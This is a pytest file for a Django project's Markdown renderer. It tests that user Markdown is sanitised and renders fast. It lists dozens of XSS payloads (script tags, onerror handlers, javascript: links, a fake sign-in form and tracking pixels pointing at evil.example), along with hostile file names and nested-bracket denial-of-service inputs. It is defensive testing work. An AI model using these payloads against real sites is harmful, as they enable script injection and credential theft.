"""Markdown of people is shown safely, whatever is in it, and quickly, however much there is."""

import time
from html.parser import HTMLParser
from urllib.parse import quote

import pytest
from django.utils.translation import override
from hypothesis import given
from hypothesis import strategies as st

from pmhub.lib.markdown import ATTRIBUTES, CLASSES, LONGEST, TAGS, render

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<x onclick=alert(1)>x</x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](ftp://evil.example)",
    '[x](https://a.example "onmouseover=alert(1) x=\\"")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](/\\evil.example/pixel.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![" onerror="alert(1)](/media/x.png)',
    '![x](/media/x.png "\\" onerror=\\"alert(1)")',
    '```" onclick="alert(1)\nx\n```',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "|<script>|\n|-|\n|</td><img src=x onerror=alert(1)>|",
    "- [x] <img src=x onerror=alert(1)>",
    "https://a.example/<script>alert(1)</script>",
    'https://a.example/"onmouseover="alert(1)',
    "javascript://a.example/%0aalert(1)",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x\x00 onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "# <a name=location>x</a>",
    "*<b>* <i onclick=alert(1)>",
]


class Inspection(HTMLParser):
    """Every element and attribute of a piece of HTML."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_decl(self, decl):
        self.found.append((decl, {}))

    handle_comment = handle_pi = unknown_decl = handle_decl


def named(text):
    """Finds a name in every text and says of it what it must not."""
    evil = '"><script>alert(1)</script>'
    return [(0, len(text), {"href": "/p/SHOP/", "title": evil, "class": f"reference {evil}"})] if text else []


def assert_safe(html):
    for tag, attributes in Inspection(html).found:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | ({"rel", "class"} if tag == "a" else set())
        assert set(attributes.get("class", "").split()) <= CLASSES
        assert attributes.get("href", "https:").startswith(("http:", "https:", "mailto:", "/", "#", "%", "x"))
        assert attributes.get("type", "checkbox") == "checkbox"
        if tag == "img":
            assert attributes["src"].startswith("/")
            assert attributes["src"][1:2] not in ("/", "\\")


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_come_out_harmless(attack):
    for text in (attack, f"> {attack}", f"* {attack}", f"[{attack}](https://a.example)", f"**{attack}**"):
        assert_safe(render(text))
        assert_safe(render(text, named))


@given(st.text(alphabet="<>\"'`&;:/\\![]()*_~|-#=x \n\t\x00ajscript", max_size=200) | st.text(max_size=200))
def test_any_text_comes_out_harmless(text):
    assert_safe(render(text))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("需求 **重点** *x*", "<p>需求 <strong>重点</strong> <em>x</em></p>"),
        ("~~old~~", "<p><s>old</s></p>"),
        ("a\nb", "<p>a\nb</p>"),
        ("3. three", '<ol start="3">\n<li>three</li>\n</ol>'),
        ("`a < b`", "<p><code>a &lt; b</code></p>"),
        ("```js\nx\n```", "<pre><code>x\n</code></pre>"),
        ("[a](mailto:me@a.example)", '<p><a href="mailto:me@a.example" rel="noopener nofollow">a</a></p>'),
        ("![y](/media/a.png)", '<p><img src="/media/a.png" alt="y" loading="lazy"></p>'),
        (
            "![y](https://a.example/b.png)",
            '<p><a href="https://a.example/b.png" rel="noopener nofollow">y</a></p>',
        ),
        (
            "见 https://a.example/b。",
            '<p>见 <a href="https://a.example/b" rel="noopener nofollow">https://a.example/b</a>。</p>',
        ),
        (
            "[https://a.example](https://b.example)",
            '<p><a href="https://b.example" rel="noopener nofollow">https://a.example</a></p>',
        ),
    ],
)
def test_renders(text, html):
    assert render(text).strip() == html


def test_tables_align_by_attribute_not_by_style():
    html = render("|a|b|\n|:-|-:|\n|1|2|")
    assert '<td align="right">2</td>' in html
    assert "style" not in html


def test_tasks_are_boxes_that_cannot_be_changed():
    html = render("- [x] done\n- [ ] open\n- [x]tight")
    assert html.count("<input") == 2
    assert '<input type="checkbox" disabled="" aria-label="done" checked="">done' in html
    assert '<input type="checkbox" disabled="" aria-label="not done">open' in html


def test_the_result_needs_no_escaping():
    assert render("a").__html__() == "<p>a</p>\n"


PIECES = [
    "需求文本，",
    "[",
    "![",
    "*a **a ",
    "> ",
    "- ",
    "`",
    "|\n",
    "a|b\n-|-\n",
    "[a](",
    "<",
    "&",
    "\\",
    "\x00",
    "**a *b ~~c ",
]


@pytest.mark.parametrize("piece", PIECES)
def test_a_hundred_thousand_characters_are_fast(piece):
    text = (piece * LONGEST)[:LONGEST]
    started = time.process_time()
    assert_safe(render(text))
    assert time.process_time() - started < 10


def test_a_table_of_thousands_of_columns_is_shown_as_text():
    html = render("|".join("a" * 5_000) + "\n" + "|".join("-" * 5_000) + "\n" + "b\n" * 2_500)
    assert "<table" not in html
    assert len(html) < 50_000


def test_deep_nesting_is_shown_not_followed():
    assert_safe(render("> " * 20_000 + "x"))
    assert render("> " * 20_000 + "x").count("<blockquote>") <= 20


def test_nul_is_replaced():
    assert render("a\x00b") == "<p>a\ufffdb</p>\n"


def test_what_is_too_long_ends_with_a_note():
    with override("en"):
        assert "The rest is too long to show" in render("a " * LONGEST)
        assert "too long" not in render("a" * LONGEST)


@pytest.mark.parametrize("nested", ["[" * 200_000, "![" * 100_000, "[" * 100_000 + "](x)" * 25_000, "(" * 200_000])
def test_two_hundred_thousand_nested_brackets_are_answered(nested):
    started = time.process_time()
    assert_safe(render(nested))
    assert time.process_time() - started < 10


@pytest.mark.parametrize(
    "name", ['x.png" onerror="alert(1)', "](javascript:alert(1))", "<script>.png", "a\\](//evil.example)", "&quot;.png"]
)
def test_hostile_names_of_files_stay_within_their_link(name):
    label = "".join(f"\\{letter}" if letter in r"\[]*_`<>&" else letter for letter in name)
    html = render(f"![{label}](/files/{'0' * 32}/{quote(name)})")
    assert_safe(html)
    assert [tag for tag, _attributes in Inspection(html).found] == ["p", "img"]
